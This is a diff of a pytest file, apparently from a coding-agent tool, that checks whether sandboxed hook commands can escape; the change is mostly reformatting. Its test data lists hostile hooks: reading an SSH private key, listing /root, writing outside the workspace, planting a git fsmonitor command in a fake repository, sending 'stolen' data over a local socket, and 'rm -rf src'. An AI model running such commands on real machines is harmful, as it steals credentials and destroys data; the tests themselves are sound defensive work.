@@ -23,9 +23,11 @@ from tests.tools.test_attacks import PYTHON, SECRET, digest, world  # noqa: F401
 
 pytestmark = pytest.mark.skipif(not SANDBOX, reason="no kernel sandbox on this machine (doctor says why)")
 
-PLANT = ("import os; os.makedirs('sub/.git/refs'); os.makedirs('sub/.git/objects'); "
-         "open('sub/.git/HEAD', 'w').write('ref: refs/heads/main' + chr(10)); "
-         "open('sub/.git/config', 'w').write('[core]' + chr(10) + ' fsmonitor = touch {marker}' + chr(10))")
+PLANT = (
+    "import os; os.makedirs('sub/.git/refs'); os.makedirs('sub/.git/objects'); "
+    "open('sub/.git/HEAD', 'w').write('ref: refs/heads/main' + chr(10)); "
+    "open('sub/.git/config', 'w').write('[core]' + chr(10) + ' fsmonitor = touch {marker}' + chr(10))"
+)
 CONNECT = "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'stolen')"
 # (what it tries, the hook's command line); {outside}, {home}, {marker}, {port} are filled in.
 HOSTILE_HOOKS = [
@@ -44,10 +46,10 @@ HOSTILE_HOOKS = [
     ("ssh key", "cat {home}/.ssh/id_ed25519"),
     ("ssh folder", "ls -la {home}/.ssh /root/.ssh"),
     # The same, past argument screening (a convenience, not the wall): paths a program opens itself.
-    ("outside write by a program", f'{PYTHON} -c "open(\'{{outside}}/secret.txt\', \'w\').write(\'x\')"'),
-    ("outside read by a program", f'{PYTHON} -c "print(open(\'{{outside}}/secret.txt\').read())"'),
-    ("ssh key by a program", f'{PYTHON} -c "print(open(\'{{home}}/.ssh/id_ed25519\').read())"'),
-    ("home by a program", f'{PYTHON} -c "import os; print(os.listdir(\'{{home}}/.ssh\'), os.listdir(\'/root\'))"'),
+    ("outside write by a program", f"{PYTHON} -c \"open('{{outside}}/secret.txt', 'w').write('x')\""),
+    ("outside read by a program", f"{PYTHON} -c \"print(open('{{outside}}/secret.txt').read())\""),
+    ("ssh key by a program", f"{PYTHON} -c \"print(open('{{home}}/.ssh/id_ed25519').read())\""),
+    ("home by a program", f"{PYTHON} -c \"import os; print(os.listdir('{{home}}/.ssh'), os.listdir('/root'))\""),
     ("plant a repository", f'{PYTHON} -c "{PLANT}"'),
     ("network", f'{PYTHON} -c "{CONNECT}"'),
 ]
@@ -63,7 +65,7 @@ def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return folder
 
 
-def judged(world: dict, home: Path, marker: Path, run: object) -> list[hooks.HookResult]:  # noqa: F811
+def judged(world: dict, home: Path, marker: Path, run: object) -> list[hooks.HookResult]:
     """Run the hooks (`run()`), then check every effect the corpus forbids; the hooks' results."""
     ws, outside = world["ws"], world["outside"]
     (ws / "README.md").write_text("# demo\n")
@@ -85,28 +87,41 @@ def judged(world: dict, home: Path, marker: Path, run: object) -> list[hooks.Hoo
 
 
 @pytest.mark.parametrize(("name", "command"), HOSTILE_HOOKS, ids=[c[0] for c in HOSTILE_HOOKS])
-def test_a_hostile_hook_changes_and_reads_nothing_it_must_not(world: dict, home: Path, tmp_path: Path,  # noqa: F811
-                                                             name: str, command: str) -> None:
+def test_a_hostile_hook_changes_and_reads_nothing_it_must_not(
+    world: dict,
+    home: Path,
+    tmp_path: Path,
+    name: str,
+    command: str,
+) -> None:
     marker = tmp_path / "fsmonitor-ran"
     line = command.format(outside=world["outside"], home=home, marker=marker, port=int(str(world["port"])))
     heard: list[hooks.HookResult] = []
 
     def run() -> list[hooks.HookResult]:
-        return hooks.fire(world["ws"], Settings(), Hooks(on_task_done=[line], timeout_seconds=20), "on_task_done",
-                          {"task_id": "r1t1", "files_changed": ["src/calc.py"]}, heard.append)
+        return hooks.fire(
+            world["ws"],
+            Settings(),
+            Hooks(on_task_done=[line], timeout_seconds=20),
+            "on_task_done",
+            {"task_id": "r1t1", "files_changed": ["src/calc.py"]},
+            heard.append,
+        )
 
     results = judged(world, home, marker, run)
     assert [r.command for r in heard] == [line]  # the hook did run (and was reported), whatever it printed
     assert len(results) == 1
 
 
-def test_hostile_hooks_at_every_event_from_a_pipeline_block(world: dict, home: Path, tmp_path: Path) -> None:  # noqa: F811
+def test_hostile_hooks_at_every_event_from_a_pipeline_block(world: dict, home: Path, tmp_path: Path) -> None:
     """The same lines from a pipeline block in the workspace, at on_verdict and on_task_done through fire and
     at on_run_end through the API's own entry (it resolves the block): the event changes nothing."""
     marker = tmp_path / "fsmonitor-ran"
     ws = world["ws"]
-    lines = [c.format(outside=world["outside"], home=home, marker=marker, port=int(str(world["port"])))
-             for _, c in HOSTILE_HOOKS]
+    lines = [
+        c.format(outside=world["outside"], home=home, marker=marker, port=int(str(world["port"])))
+        for _, c in HOSTILE_HOOKS
+    ]
     pipeline = yaml.safe_load((BUILTIN_DIR / "pipeline-default.yaml").read_text())
     pipeline["hooks"] = {"on_run_end": lines, "timeout_seconds": 20}
     (ws / ".slmcode" / "blocks").mkdir()
@@ -128,10 +143,16 @@ def test_hostile_hooks_at_every_event_from_a_pipeline_block(world: dict, home: P
 
 
 @pytest.mark.parametrize("permission", ["review", "dry-run"])
-def test_in_review_and_dry_run_a_hook_changes_no_file(world: dict, permission: str) -> None:  # noqa: F811
+def test_in_review_and_dry_run_a_hook_changes_no_file(world: dict, permission: str) -> None:
     ws = world["ws"]
     before = digest(ws)
-    results = hooks.fire(ws, Settings(permission=permission), Hooks(on_run_end=["tee src/calc.py", "rm -rf src"]),
-                         "on_run_end", {"status": "done"}, lambda r: None)
+    results = hooks.fire(
+        ws,
+        Settings(permission=permission),
+        Hooks(on_run_end=["tee src/calc.py", "rm -rf src"]),
+        "on_run_end",
+        {"status": "done"},
+        lambda r: None,
+    )
     assert digest(ws) == before
     assert [r.ok for r in results] == [False, False]
